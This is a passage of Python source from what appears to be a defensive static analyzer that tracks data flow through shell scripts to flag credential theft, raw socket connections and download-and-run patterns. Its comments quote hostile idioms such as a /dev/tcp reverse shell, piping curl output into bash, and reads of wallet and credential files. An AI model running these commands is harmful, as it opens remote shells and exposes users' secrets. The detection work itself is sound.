        outputs = [self.statement(child, stdin) for child in node.named_children]
        shown = [o for o in outputs if o.text is not None or o.origins or o.shape]
        return joined(shown, "\n") if shown else outputs[-1]

    def statement(self, node: Node, stdin: Value) -> Value:
        kind = node.type
        if kind == "command":
            return self.command(node, stdin, [])
        if kind == "pipeline":
            return self.pipeline(node, stdin)
        if kind == "redirected_statement":
            return self.redirected(node, stdin)
        if kind == "variable_assignment":
            self.assign(node)
            self.set_separator(node)
            return UNKNOWN
        if kind == "declaration_command":
            assignments = [c for c in node.named_children if c.type == "variable_assignment"]
            for child, glued in _glued_assignments(node.named_children):
                self.assign(child, glued)
            words = (node.text or b"").decode("utf-8", "replace").split()
            if not assignments and words and vocabulary.dumps_environment(words[0], [*words[1:]]):
                # `export -p`, `declare -x`: every exported variable printed, as `env` does
                return Value(None, (self.out.env_dump(self.line(node), " ".join(words)),))
            return UNKNOWN
        if kind in ("comment", "heredoc_body", "heredoc_end"):
            return UNKNOWN
        if kind == "function_definition":
            body = node.child_by_field_name("body")
            name = node.child_by_field_name("name")
            if body is not None and name is not None and name.text:
                self.functions[name.text.decode("utf-8", "replace")] = body
            return self.statement(body, stdin) if body is not None else UNKNOWN
        if kind == "for_statement":
            return self.loop(node, stdin)
        if kind == "while_statement":
            return self.read_loop(node, stdin)
        if kind in ("if_statement", "case_statement") or (
            kind == "list" and any(child.type == "||" for child in node.children)
        ):
            return self.branches(node, stdin)
        if kind == "list":
            # `a || b`, `a && b`: the text of the one that ran last as before (`command -v x || command -v
            # y`), carrying what any of them read (`$(tr … < "$cfg" 2>/dev/null || true)` is the file)
            outputs = [self.statement(child, stdin) for child in node.named_children]
            carried = tuple(dict.fromkeys(origin for output in outputs for origin in output.origins))
            return dataclasses.replace(outputs[-1], origins=carried) if outputs else UNKNOWN
        if kind in ("compound_statement", "subshell", "do_group"):
            # a loop's body prints what each of its commands prints (`echo "$x"; i=$((i+1))`), not only the last's
            held = self.extracted
            outputs = [self.statement(child, stdin) for child in node.named_children]
            if kind == "subshell" and any(self.extracted is v for v in self.handed_downloads.values()):
                self.extracted = held  # `(cd .tools/x && sh ./setup.sh)`: the subshell's `cd` ends with it
            outputs = [o for o in outputs if o.text is not None or o.origins or o.shape]
            return joined(outputs, "\n") if outputs else UNKNOWN
        if kind == "negated_command":
            return self.statements(node, stdin)
        if kind == "test_command":
            self.probed(node)
        return self.statements(node, stdin)

    def branches(self, node: Node, stdin: Value) -> Value:
        """An ``if``/``elif``/``else``, a ``case`` or ``a || b``: each branch walked in turn. A variable
        two branches set to different values is a choice (:class:`_Choices`); on the walk that keeps
        the earliest branch's value, a later branch's assignment to it is undone after that branch."""
        groups: list[list[Node]] = [[]]
        for child in node.named_children if node.type != "list" else node.children:
            if child.type in ("elif_clause", "else_clause", "case_item") or (
                node.type == "list" and child.type == "||"
            ):
                groups.append([])
            if child.is_named:
                groups[-1].append(child)
        chosen: dict[str, Value] = {}  # what an earlier branch set
        before = dict(self.variables) if _may_run_no_branch(node) else {}
        outputs: list[Value] = []
        ignored = node.type == "list" and len(groups) > 1 and all(_carries_on(c) for g in groups[1:] for c in g)
        for index, group in enumerate(g for g in groups if g):
            entering = dict(self.variables)
            was_ignored, self.failure_ignored = self.failure_ignored, self.failure_ignored or (ignored and index == 0)
            for child in group:
                outputs.append(self.statement(child, stdin))
            self.failure_ignored = was_ignored
            for name, value in list(self.variables.items()):
                if entering.get(name) is value or name in _POSITIONAL or name == "_":
                    continue  # unchanged, or set by every command ($_) or call ($1 …), not chosen
                earlier = chosen.get(name) or _kept_unless_set(before.get(name), value)
                if earlier is None:
                    chosen[name] = value
                elif earlier != value:
                    self.choices.met = True
                    if self.choices.earlier_wins:
                        self.variables[name] = earlier
        if node.type == "list":  # as a plain list gives it: the last output, carrying what any read
            carried = tuple(dict.fromkeys(origin for output in outputs for origin in output.origins))
            return dataclasses.replace(outputs[-1], origins=carried) if outputs else UNKNOWN
        return outputs[-1] if outputs else UNKNOWN

    def probed(self, node: Node) -> None:
        """``[ -f "$p" ]``, ``[[ -d ~/.electrum ]]``: a path checked for, which is what the code is
        after when it is a browser's saved logins, a wallet or an extension's storage."""
        for child in node.named_children:
            if child.type != "unary_expression" or child.child_count < 2:
                continue
            operator_node, operand = child.children[0], child.children[-1]
            if operator_node.type == "test_operator" and (operator_node.text or b"") in _PATH_TESTS:
                text = (operand.text or b"").decode() if operand.type == "unary_expression" else None
                path = text if text is not None else self.value(operand).pattern
                if path:
                    self.out.looked_for(self.line(child), vocabulary.home_path(path))

    def loop(self, node: Node, stdin: Value) -> Value:
        """A ``for`` loop: its body once per value (a few at most; a known value with spaces and no quotes
        once per word), else once with what is known. What the runs print flows on, one after another
        (``for f in .netrc .aws/credentials; do echo "$HOME/$f"; done > list``)."""
        outputs = self.loop_runs(node, stdin)
        shown = [o for o in outputs if o.text is not None or o.origins or o.shape]
        return joined(shown, "\n") if shown else UNKNOWN

    def loop_runs(self, node: Node, stdin: Value) -> list[Value]:
        """What each run of a ``for`` loop's body printed."""
        variable = node.child_by_field_name("variable")
        body = node.child_by_field_name("body")
        nodes = node.children_by_field_name("value")
        values = [self.value(c) for c in nodes]
        if variable is None or variable.text is None or body is None:
            return []
        name = variable.text.decode()
        outputs: list[Value] = []
        words = [
            (v, c.type in ("string", "raw_string") and not _ARRAY_WORDS.fullmatch(c.text or b""))
            for v, c in zip(values, nodes, strict=True)
            if v.text is not None
        ]
        if words and len(words) == len(values) and len(words) <= 8:
            for value, quoted in words:
                split = value.text and " " in value.text and not quoted  # "Login Data" is one word
                if quoted and value.text and " " in value.text.strip():
                    self.spaced_words.add(value.text.strip())
                for word in _words(value.text, self.spaced_words) if split and value.text else [value.text or ""]:
                    self.variables[name] = Value(word, value.origins)
                    outputs.append(self.statement(body, stdin))
            return outputs
        if (words or any(v.shape for v in values)) and len(values) <= 8:
            # `for p in "$HOME/.npmrc" "$PWD/.env"`: one word made at run time does not hide the others;
            # `for f in "$WORK"/out/*`: each file of a listing, kept by its spelling (`*/out/*`)
            for value in values:
                self.variables[name] = value
                outputs.append(self.statement(body, stdin))
            return outputs
        # a long list: the body once per word naming a secret store (what a copy of each takes), then once
        # for the rest, so nine stores in one loop are read as surely as three
        stores = [v for v in values if v.text is not None and vocabulary.secret_store(v.text)][:_STORE_RUNS]
        for value in stores:
            self.variables[name] = value
            outputs.append(self.statement(body, stdin))
        self.variables[name] = Value(None, merged(*(v.origins for v in values)))
        return [*outputs, self.statement(body, stdin)]

    def read_loop(self, node: Node, stdin: Value) -> Value:
        """``while read -r p; do …; done < list``: over known lines (a bundled list of paths), the body
        once per line (16 at most) with the variable set to it; what the body prints flows on."""
        condition = node.child_by_field_name("condition")
        body = node.child_by_field_name("body")
        names = self.read_names(condition) if condition is not None else []
        lines = [line.strip() for line in (stdin.text or "").split("\n") if line.strip()]
        lines = [line for line in lines if not line.startswith("#")]
        if body is None or not names or not lines:
            return self.statements(node, stdin)
        separator = _read_separator(condition.text.decode("utf-8", "replace") if condition and condition.text else "")
        outputs: list[Value] = []
        for text in lines[:16]:
            fields = [f.strip() for f in text.split(separator, len(names) - 1)]
            for index, name in enumerate(names):
                self.variables[name] = Value(fields[index] if index < len(fields) else "", stdin.origins)
            outputs.append(self.statement(body, UNKNOWN))
        outputs = [o for o in outputs if o.text is not None or o.origins]
        return joined(outputs, "\n") if outputs else UNKNOWN

    def read_names(self, condition: Node) -> list[str]:
        """The variables a ``read`` loop condition sets (``IFS= read -r a b``), else none."""
        if condition.type != "command":
            return []
        words = [(c.text or b"").decode("utf-8", "replace") for c in condition.named_children if c.type == "word"]
        name = condition.child_by_field_name("name")
        if name is None or (name.text or b"").decode() != "read":
            return []
        return [w for w in words if re.fullmatch(r"[A-Za-z_]\w*", w)]

    def pipeline(self, node: Node, stdin: Value) -> Value:
        flowing = stdin
        outer = self.anchor
        self.anchor = outer or self.line(node)  # a pipeline continued over lines is reported where it starts
        try:
            for child in node.named_children:
                flowing = self.statement(child, flowing)
        finally:
            self.anchor = outer
        return flowing

    def redirected(self, node: Node, stdin: Value) -> Value:
        body = node.child_by_field_name("body")
        redirects = [c for c in node.named_children if c is not body]
        while body is not None and body.type == "list" and body.named_children:
            # `exec 3<>/dev/tcp/h/p && sh -i <&3`: the parser hangs the redirects on the whole list,
            # but the shell applies them to its last command, after the ones before it have run
            *before, body = body.named_children
            was_ignored = self.failure_ignored
            # `sha256sum -c f || echo "mismatch" >&2`: the check's failure is only reported
            self.failure_ignored = was_ignored or (_after_or(body) and _carries_on(body))
            for command in before:
                self.statement(command, stdin)
            self.failure_ignored = was_ignored
        for redirect in redirects:
            if redirect.type == "file_redirect" and _operator(redirect) in ("<", "<&"):
                destination = _destination(redirect)
                target = self.value(destination)
                host = self.sockets.get(target.text or "")
                socket = _dev_tcp(target.pattern or "") if host is None and _operator(redirect) == "<" else None
                if socket is not None:  # `sh < /dev/tcp/h/p`
                    host = socket[0]
                    opened = f"{socket[0]}:{socket[1]}"
                    self.out.emit(
                        Kind.RAW_SOCKET, opened, self.out.at(self.line(redirect), f"opens a raw connection to {opened}")
                    )
                if host is not None:
                    read = self.from_connection(redirect, body, host)
                    if _bare_exec(body):
                        continue  # bound for the commands after it, not read by `exec` itself
                elif destination is not None and destination.type == "process_substitution":
                    read = target  # `bash < <(curl …)`: what the inner command prints
                elif _operator(redirect) == "<&" and f"/dev/fd/{target.text}" in self.files:
                    read = self.files[f"/dev/fd/{target.text}"]  # `bash <&5` after `exec 5< <(curl …)`
                else:
                    read = self.read_file(redirect, target, "reads")
                descriptor = self.opened_for_reading(redirect, body) if host is None else None
                if descriptor is not None:  # `exec 3< <(curl …)`, `exec {fd}< f`: read later as /dev/fd/N
                    self.files[f"/dev/fd/{descriptor}"] = read
                else:
                    stdin = read
            elif redirect.type == "herestring_redirect":
                parts = [self.value(c) for c in redirect.named_children]
                stdin = joined(parts, " ") if parts else stdin
            elif redirect.type == "heredoc_redirect":
                stdin = self.heredoc(redirect)
        if body is None:
            return UNKNOWN
        output = self.command(body, stdin, redirects) if body.type == "command" else self.statement(body, stdin)
        for redirect in redirects:
            if redirect.type == "file_redirect" and _operator(redirect) not in ("<", "<&"):
                self.write(redirect, output, body)
            elif redirect.type == "heredoc_redirect":
                output = self.after_heredoc(redirect, output, body)
        return output

    def from_connection(self, redirect: Node, body: Node | None, host: str) -> Value:
        """What a command reads from a raw connection to ``host``: commands, if it runs them. A bare
        ``exec 0<&3`` makes the connection the standard input of every later command of the script
        (``exec 4</dev/tcp/h/p``, descriptor 4)."""
        received = self.out.at(self.line(redirect), f"{FROM_CONNECTION} {host}")
        if _bare_exec(body):
            self.sockets[_descriptor(redirect, body)] = host
        return Value(None, (Origin(Source.FETCHED, host, received),))

    def standard_input(self, line: int) -> Value:
        """What a command given no input reads: the connection a bare ``exec 0<&3`` bound, else nothing."""
        host = self.sockets.get(_STANDARD_INPUT)
        if host is None:
            return UNKNOWN
        return Value(None, (Origin(Source.FETCHED, host, self.out.at(line, f"{FROM_CONNECTION} {host}")),))

    def opened_for_reading(self, redirect: Node, body: Node | None) -> str | None:
        """The descriptor a bare ``exec`` opens for reading with ``redirect`` (``exec 3< …``: ``3``;
        ``exec {fd}< …``: bash's number held in ``$fd``, named ``{fd}`` here), or ``None``."""
        text = (body.text or b"").decode("utf-8", "replace") if body is not None else ""
        if not re.match(r"^\s*exec\b", text):
            return None
        named = re.match(r"^\s*exec\s+\{([A-Za-z_]\w*)\}", text)
        if named is not None:
            marker = "{" + named.group(1) + "}"
            self.variables[named.group(1)] = Value(marker)
            return marker
        descriptor = next((c for c in redirect.named_children if c.type == "file_descriptor"), None)
        return descriptor.text.decode() if descriptor is not None and descriptor.text else None

    def settings_from(self, target: Value) -> None:
        """A bundled file sourced (``. "$here/lib/common.sh"``, ``. config/app.env``) sets the variables
        it assigns for the rest of this script. Its own behaviour is its own snippet's to report, so it
        is walked here only for its assignments (not its functions: their lines are in that file)."""
        bundled = bundled_text(target.pattern or "")
        if bundled is None or bundled.text is None or self.depth >= MAX_DEPTH:
            return
        quiet = _Walker(Emitter(self.out.snippet), self.variables, Files(), self.depth + 1)
        rel = bundled_rel(target.pattern or "")
        quiet.run(_dotenv_as_shell(bundled.text) if dotenv_file(rel or target.pattern or "") else bundled.text, 0)
        # its functions are this script's now: a call runs the body, its links placed in that file
        for name, body in quiet.functions.items():
            if name not in self.functions and rel is not None:
                self.functions[name] = body
                self.function_files[name] = rel

    def assigned_from_written(self, written: Value) -> None:
        """A file another step wrote with a secret in it (``echo "export T=$(cat key)" > f``), sourced
        here: each variable it assigns carries that secret."""
        carried = tuple(o for o in written.origins if o.source in (Source.SECRET, Source.ENV))
        if not carried:
            return
        for name in _ASSIGNED.findall(written.text or written.shape or ""):
            self.variables[name] = Value(None, carried)

    def after_heredoc(self, redirect: Node, output: Value, body: Node) -> Value:
        """What follows a here-document's start on its line (``xxd -r -p <<'X' | sh``): the parser puts
        the rest of the pipeline inside the redirect, so the command's output flows on from here."""
        for child in redirect.named_children:
            if child.type == "pipeline":
                for command in child.named_children:
                    output = self.statement(command, output)
            elif child.type == "file_redirect" and _operator(child) not in ("<", "<&"):
                self.write(child, output, body)
            elif child.type not in ("heredoc_start", "heredoc_body", "heredoc_end", "heredoc_content"):
                self.statement(child, UNKNOWN)
        return output

    def heredoc(self, redirect: Node) -> Value:
        for child in redirect.named_children:
            if child.type == "heredoc_body":
                text = child.text.decode("utf-8", "replace") if child.text else ""
                quoted = any(
                    c.type == "heredoc_start" and c.text and c.text[:1] in (b"'", b'"') for c in redirect.children
                )
                if quoted or "$" not in text:
                    return Value(text)
                return self.expanded_body(child)
        return UNKNOWN

    def expanded_body(self, body: Node) -> Value:
        """A here-document's text with its expansions done: the literal text between them is kept
        (``ExecStart=$3`` is ``ExecStart=`` and the third argument)."""
        raw = body.text or b""
        if not body.named_children:  # the parser leaves a body inside a function unparsed
            return self.expanded_text(raw.decode("utf-8", "replace"))
        parts: list[Value] = []
        position = body.start_byte
        for child in body.named_children:
            if child.start_byte > position:
                parts.append(
                    Value(
                        raw[position - body.start_byte : child.start_byte - body.start_byte].decode("utf-8", "replace")
                    )
                )
            parts.append(self.value(child))
            position = child.end_byte
        if body.end_byte > position:
            parts.append(Value(raw[position - body.start_byte :].decode("utf-8", "replace")))
        return joined(parts)

    def expanded_text(self, text: str) -> Value:
        """``$name``, ``${name}`` and ``$1`` in text the parser did not split, from the known variables."""
        parts: list[Value] = []
        position = 0
        for match in _EXPANSION.finditer(text):
            parts.append(Value(text[position : match.start()]))
            parts.append(self.variables.get(match.group(1) or match.group(2), UNKNOWN))
            position = match.end()
        parts.append(Value(text[position:]))
        return joined(parts)

    def assign(self, node: Node, glued: tuple[Node, ...] = ()) -> None:
        """``name=value``; ``glued`` are the nodes the parser split off the value's end (see
        :func:`_glued_assignments`)."""
        name = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        if name is None or name.text is None:
            return
        key = name.text.decode("utf-8", "replace")
        value = self.value(value_node) if value_node is not None else Value("")
        if glued and value_node is not None:
            value = self.glued([value_node, *glued])
        if name.type == "subscript" and name.named_children:  # `R[git]=".git-credentials"`: one key of a table
            self.set_table_entry(name, value)
            return
        if value_node is not None and value_node.type == "array":
            self.arrays.add(key)
        keyed = self.table_items(value_node) if value_node is not None and value_node.type == "array" else None
        if keyed is not None:
            self.tables[key] = keyed
            value = joined(list(keyed.values()), " ") if keyed else Value("")
        if "+=" in (node.text or b"").decode("utf-8", "replace").split("=", 1)[0] + "=":
            # `files+=("$HOME/.$d")` adds a word to an array; `s+=x` extends a string
            array = value_node is not None and value_node.type == "array"
            if key in self.variables or not array:  # an array never set before is empty: `+=` starts it
                value = joined([self.variables.get(key, UNKNOWN), value], " " if array else "")
        self.variables[key] = value
        share_variable(key, value)
        self.setting(self.line(node), key, value)

    def set_separator(self, node: Node) -> None:
        """``IFS=…`` as a statement of its own (not ``IFS= read``, which sets it for that command
        only): the separator a later ``"${a[*]}"`` joins with, when its value is known."""
        name = node.child_by_field_name("name")
        if name is None or name.text != b"IFS":
            return
        value = self.variables.get("IFS", UNKNOWN).text
        self.separator = value[:1] if value is not None else None

    def joined_items(self, name: str, rest: str, node: Node, value: Value) -> Value | None:
        """``"${parts[*]}"``: an array's items joined by the first character of ``$IFS`` (none when
        it is empty), so ``IFS=; "${rt[*]}"`` spells the word its items make, as a command name can
        be built; ``None`` where the blank default applies."""
        if rest != "[*]" or name not in self.arrays or self.separator is None or value.text is None:
            return None
        if node.parent is None or node.parent.type != "string":
            return None  # unquoted, the items are words of their own whatever $IFS is
        return Value(value.text.replace(" ", self.separator), value.origins)

    def table_items(self, array: Node) -> dict[str, Value] | None:
        """The keys and values of ``([npm]=".npmrc" [git]=…)``, or ``None`` for a plain array."""
        items: dict[str, Value] = {}
        for element in array.named_children:
            parts = element.named_children if element.type == "concatenation" else []
            texts = [(part.text or b"").decode("utf-8", "replace") for part in parts[:4]]
            if len(parts) < 4 or texts[0] != "[" or texts[2] != "]" or texts[3] != "=":
                return None
            items[self.value(parts[1]).text or texts[1]] = joined([self.value(part) for part in parts[4:]])
        return items or None

    def set_table_entry(self, subscript: Node, value: Value) -> None:
        """``R[key]=value``: the key's value in the table ``R`` (made if new)."""
        table_name = (subscript.named_children[0].text or b"").decode("utf-8", "replace")
        key = self.value(subscript.named_children[1]).text if len(subscript.named_children) > 1 else None
        if key is None:
            return
        table = self.tables.setdefault(table_name, {})
        table[key] = value
        self.variables[table_name] = joined(list(table.values()), " ")

    def table_lookup(self, name: str, rest: str, keys_only: bool) -> Value | None:
        """``${R[$k]}`` (the key's value when the key is known) or ``${!R[@]}`` (the keys), for an
        associative array the program filled; ``None`` for anything else."""
        table = self.tables.get(name)
        if table is None or not rest.startswith("[") or not rest.endswith("]"):
            return None
        subscript = rest[1:-1]
        if keys_only:
            return Value(" ".join(table)) if subscript in ("@", "*") else None
        if subscript in ("@", "*"):
            return None
        variable = re.fullmatch(r"\$\{?(\w+)\}?", subscript)
        key = self.variable(variable.group(1)).text if variable else subscript.strip("\"'")
        if key is None:
            return joined(list(table.values()), " ")  # a key known only at run time: any of the values
        return table.get(key, UNKNOWN)

    def glued(self, pieces: list[Node]) -> Value:
        """One word the parser split into ``pieces``: read again whole where it can be, else joined."""
        first = (
            pieces[0].named_children[0] if pieces[0].type == "command_name" and pieces[0].named_children else pieces[0]
        )
        requoted = _requoted(first, pieces[-1])
        if requoted is not None:
            return self.value(requoted)
        return joined(
            [self.value(p.named_children[0] if p.type == "command_name" and p.named_children else p) for p in pieces]
        )

    def setting(self, line: int, key: str, value: Value) -> None:
        """A variable that tells a tool where to install from, or how to check it (assigned, exported
        or written with ``go env -w``)."""
        lowered = key.lower()
        if lowered in _INDEX_VARIABLES and value.pattern:
            self.index(line, value.pattern)
        if lowered in _MIRROR_VARIABLES and value.pattern:
            self.mirror(line, key, value.pattern)
        if lowered in ("histfile", "histsize", "savehist") and value.text in ("/dev/null", "0", ""):
            self.out.emit(Kind.CONCEAL, "history off", self.out.at(line, "turns shell history off"))
        if key.upper() in _GO_MODULE_SETTINGS and value.text is not None:
            self.go_settings[key.upper()] = (line, value.text)
            self.go_unverified_proxy()

    def go_unverified_proxy(self) -> None:
        """Go modules from a proxy that is not Go's own with the checksum database off: the proxy can
        serve any code under any module's name, and nothing compares it with what everyone else got."""
        proxy = self.go_settings.get("GOPROXY")
        off = next(((line, f"{k}={v}") for k, (line, v) in self.go_settings.items() if _go_checksums_off(k, v)), None)
        if proxy is None or off is None:
            return
        url = next((u for u in proxy[1].split(",") if "://" in u or "." in u.split("/", 1)[0]), "")
        host = vocabulary.url_host(url if "://" in url else f"https://{url}")
        if host is None or host in ("proxy.golang.org", "goproxy.io") or vocabulary.is_local_host(host):
            return
        self.out.emit(
            Kind.INSTALL_INDEX, url,
            self.out.at(proxy[0], f"sets GOPROXY: Go modules come from {url}"),
            self.out.at(off[0], f"with checksum verification off ({off[1]})"),
        )  # fmt: skip

    # values ---------------------------------------------------------------------------------------

    def value(self, node: Node | None) -> Value:
        if node is None:
            return UNKNOWN
        kind = node.type
        raw = node.text.decode("utf-8", "replace") if node.text else ""
        if kind == "string_content":
            return Value(_double_quoted(node.text or b""))
        if kind in ("word", "number", "heredoc_content"):
            return Value(_unescape_word(raw) if kind == "word" else raw)
        if kind == "raw_string":
            return Value(raw[1:-1])
        if kind == "ansi_c_string":
            return Value(_ansi_c(raw[2:-1]))
        if kind in ("string", "concatenation", "heredoc_body", "translated_string"):
            if kind == "string" and not node.named_children:
                return Value(raw[1:-1])
            if kind == "string":
                return self.string_parts(node)
            return joined([self.value(c) for c in node.named_children])
        if kind == "simple_expansion":
            name = raw.lstrip()
            if name != raw:  # tree-sitter-bash puts the blank before `$b` in "$a $b" into the expansion
                return joined([Value(raw[: len(raw) - len(name)]), self.variable(name[1:])])
            return self.variable(raw[1:])
        if kind == "expansion":
            return self.expansion(node, raw)
        if kind == "command_substitution":
            inner = self.inner(self.variables, self.depth)
            inner.sockets = self.sockets
            return inner.captured(node, self.stdin)
        if kind == "process_substitution":
            inner = self.inner(self.variables, self.depth)
            return inner.statements(node, UNKNOWN)
        if kind == "arithmetic_expansion":
            return Value(_arithmetic(raw[3:-2], self.variables))
        if kind == "array":
            return joined([self.value(c) for c in node.named_children], " ")
        return Value(raw) if raw and not any(ch in raw for ch in "$`") else UNKNOWN

    def string_parts(self, node: Node) -> Value:
        """A double-quoted string: its literal pieces (between children) and its expansions."""
        raw = node.text or b""
        start = node.start_byte
        pieces: list[Value] = []
        cursor = start + 1
        for child in node.named_children:
            if child.start_byte > cursor:
                pieces.append(Value(_double_quoted(raw[cursor - start : child.start_byte - start])))
            pieces.append(self.value(child))
            cursor = child.end_byte
        end = node.end_byte - 1
        if end > cursor:
            pieces.append(Value(_double_quoted(raw[cursor - start : end - start])))
        return joined(pieces)

    def variable(self, name: str) -> Value:
        if name == "IFS":
            return Value(" ")
        if name in ("HOME", "USERPROFILE"):
            return Value("~")
        if name in self.variables:
            return self.variables[name]
        if name.upper() in ("TMPDIR", "TEMP", "TMP"):  # Windows spells it %TEMP% / %TMP%
            return Value(TEMP_FOLDER)  # one spelling for the temporary folder, as ~ is for home
        if name in ("SHELL", "BASH", "0"):
            return Value("$SHELL" if name != "0" else "$0")
        shared = shared_variable(name)
        if shared is not None:
            return shared
        labelled = labelled_address(name)
        if labelled is not None:
            return Value(labelled)
        if _SECRET_NAME.search(name):
            return Value(None, (Origin(Source.TOKEN, f"${name}", self.out.at(self.offset + 1, f"reads ${name}")),))
        if name in _IDENTITY_VARIABLES:
            return Value(
                None, (Origin(Source.IDENTITY, "user and host names", self.out.at(self.offset + 1, f"reads ${name}")),)
            )
        return Value(None)

    def default_word(self, word: str) -> str:
        """A default's word with the variables it names filled in where known, as the shell expands it:
        ``${XDG_CACHE_HOME:-$HOME/.cache}`` is ``~/.cache``, the same file whichever script names it."""
        if "$" not in word:
            return word

        def filled(match: re.Match[str]) -> str:
            known = self.variable(match.group(1) or match.group(2)).text
            return known if known is not None else match.group(0)

        return re.sub(r"\$\{(\w+)\}|\$(\w+)", filled, word)

    def expansion(self, node: Node, raw: str) -> Value:
        inner = raw[2:-1]
        if inner[:1] in ("@", "*"):
            return self.positional_slice(inner[1:])
        match = re.match(r"^[#!]?(\w+)", inner)
        if not match:
            return UNKNOWN
        name = match.group(1)
        rest = inner[match.end() :]
        looked_up = self.table_lookup(name, rest, inner.startswith("!")) if self.tables else None
        if looked_up is not None:
            return looked_up
        value = self.variable(name)
        rejoined = self.joined_items(name, rest, node, value)
        if rejoined is not None:
            return rejoined
        if inner.startswith("!"):
            if rest in ("@", "*") or rest.startswith("["):
                return UNKNOWN  # `${!AWS_@}`, `${!arr[@]}`: names and indices, not values
            value = self.indirect(name, value, self.line(node))
        if inner.startswith("#"):
            return Value(str(len(value.text)) if value.text is not None else None, value.origins)
        if rest.startswith(("[", ":-", "-", ":=", "=")) and value.text is None:
            if (value.of(Source.TOKEN) or value.of(Source.SECRET)) and not rest.startswith("["):
                return value  # `${DEPLOY_TOKEN:-}`: the secret when it is set, whatever the default
            default = re.match(r"^(?:\[[^\]]*\])?:?[-=](.*)$", rest)
            if default and ("$(" in default.group(1) or "`" in default.group(1)):
                return self.substituted_default(node)
            # the default word's quotes removed as the shell removes them: `${F:-$HOME/.a""ws}` is `~/.aws`
            return Value(self.default_word(re.sub("[\"']", "", default.group(1)))) if default else value
        slice_ = re.match(r"^:(\d+)(?::(\d+))?$", rest)
        if slice_ and value.text is not None:
            begin = int(slice_.group(1))
            length = int(slice_.group(2)) if slice_.group(2) else None
            text = value.text[begin : begin + length if length is not None else None]
            return Value(text, value.origins)
        replace = re.match(r"^//?([^/]*)/(.*)$", rest)
        if replace and value.text is not None:
            old, new = replace.group(1), replace.group(2)
            text = value.text.replace(old, new) if rest.startswith("//") else value.text.replace(old, new, 1)
            return Value(text, value.origins)
        if rest.startswith("#") and value.text == "$SHELL":
            return value  # `${SHELL##*/}`: the login shell's name without its folder, still a shell
        trimmed = _trimmed(value.text, rest) if rest[:1] in ("%", "#") and value.text is not None else None
        if trimmed is not None:
            return Value(trimmed, value.origins)  # `${pair%%:*}`: the word the shell leaves, not an unknown
        if rest and value.text is not None and rest[0] in "%#^,":
            return Value(None, value.origins)
        return value

    def substituted_default(self, node: Node) -> Value:
        """A default that is a command's output (``${1:-$(date +%Y)}``): not its text but what the
        command prints, unknown unless it carries data (a download, a secret), so a path built
        from it (``/tmp/t-${1:-$(date +%Y)}``) keeps one shape wherever it is used."""
        printed = [self.value(child) for child in node.named_children if child.type == "command_substitution"]
        origins = merged(*(value.origins for value in printed))
        if len(printed) == 1 and printed[0].text is None and printed[0].shape and _one_path(printed[0].shape):
            return Value(None, origins, printed[0].shape)  # `${RELEASE:-$(cat release/LATEST)}`: the path kept there
        return Value(None, origins)

    def positional_slice(self, rest: str) -> Value:
        """``${@}``, ``${@:2}``, ``${*:1:3}``: the parameters from the given one on (``$0`` is the 0th),
        so a function that takes a label first and files after still hands on the files it was given."""
        if not rest:
            return self.variable("@")
        slice_ = re.fullmatch(r":\s*(\d+)(?::\s*(\d+))?", rest)
        if slice_ is None:
            return UNKNOWN
        count = self.variable("#").text
        if count is None or not count.isdigit():
            return Value(None, self.variable("@").origins)
        begin = max(int(slice_.group(1)), 1)
        end = int(count) + 1 if slice_.group(2) is None else min(int(count) + 1, begin + int(slice_.group(2)))
        if end > 10:  # only $1 … $9 are bound one by one: past them, what the slice holds is not known
            return Value(None, self.variable("@").origins)
        words = [self.variable(str(index)) for index in range(begin, end)]
        return joined(words, " ") if words else Value("")

    def indirect(self, name: str, named: Value, line: int) -> Value:
        """``${!name}``: the variable whose name ``$name`` holds (``for v in A_TOKEN DB_PASSWORD; do
        x=${!v}``), read as that variable."""
        if named.text is None:
            return Value(None, named.origins)
        return self.named_variable(named.text, line, f"the variable ${name} names")

    def named_variable(self, target: str, line: int, how: str) -> Value:
        """The variable called ``target``, its reads shown on ``line`` (a name given at run time: by
        ``${!v}``, by ``printenv NAME``)."""
        if re.fullmatch(r"[A-Za-z_]\w*", target) is None:
            return UNKNOWN
        value = self.variable(target)
        what = f"reads ${target} ({how})"
        return Value(value.text, tuple(dataclasses.replace(o, evidence=self.out.at(line, what)) for o in value.origins))

    # commands -------------------------------------------------------------------------------------

    def words(self, node: Node) -> tuple[list[Value], list[Node]]:
        """The command's words (name first), resolved; a name that expands to several words is split."""
        values: list[Value] = []
        nodes: list[Node] = []
        children = list(node.named_children)
        glued = {assignment.id: pieces for assignment, pieces in _glued_assignments(children)}
        skipped = {piece.id for pieces in glued.values() for piece in pieces}
        tails = _glued_words(children, skipped)
        skipped |= {n.id for first, last in tails.items() for n in children if first < n.start_byte <= last.start_byte}
        for child in children:
            if child.id in skipped:
                continue
            if child.type in ("variable_assignment", "file_redirect", "herestring_redirect", "heredoc_redirect"):
                if child.type == "variable_assignment":
                    self.assign(child, glued.get(child.id, ()))
                continue
            if child.start_byte in tails:  # `nc $a.$b.$c.$d 4444`: one word the parser split at a dot
                last = tails[child.start_byte]
                word = self.glued([n for n in children if child.start_byte <= n.start_byte <= last.start_byte])
                if word.text is not None:  # else the pieces as parsed keep what is known of each
                    span = (node.text or b"")[child.start_byte - node.start_byte : last.end_byte - node.start_byte]
                    ifs = _IFS_EXPANSION.search(span) is not None
                    pieces = word.text.split() if ifs and " " in word.text.strip() else [word.text]
                    values.extend(Value(piece, word.origins) for piece in pieces)  # split where $IFS expanded
                    nodes.extend(child for _ in pieces)
                    continue
                skipped -= {n.id for n in children if child.start_byte < n.start_byte <= last.start_byte}
            if child.type == "command_name":
                target = child.named_children[0] if child.named_children else child
                value = self.value(target)
                spaced = value.text is not None and (" " in value.text.strip() or "\t" in value.text)
                if spaced and not _SPACED_PROGRAM_PATH.fullmatch(value.text or ""):  # "C:/Program Files/x.exe"
                    for piece in (value.text or "").split():
                        values.append(Value(piece, value.origins))
                        nodes.append(child)
                    continue
                values.append(value)
                nodes.append(child)
                continue
            value = self.value(child)
            expands_ifs = child.type not in ("string", "raw_string") and _IFS_EXPANSION.search(child.text or b"")
            if value.text and " " in value.text.strip() and _ARRAY_WORDS.fullmatch(child.text or b""):
                # "${parts[@]}": one word per item of the array (held as its items joined by blanks)
                pieces = value.text.split()
                values.extend(Value(piece, value.origins) for piece in pieces)
                nodes.extend(child for _ in pieces)
                continue
            if value.text is None and " " in (value.shape or "").strip() and _ARRAY_WORDS.fullmatch(child.text or b""):
                # an array built in a loop (`args+=(-F "f=@$f")`): its known words are still flags
                shaped = _split_words([value])
                values.extend(shaped)
                nodes.extend(child for _ in shaped)
                continue
            text = value.text or ""
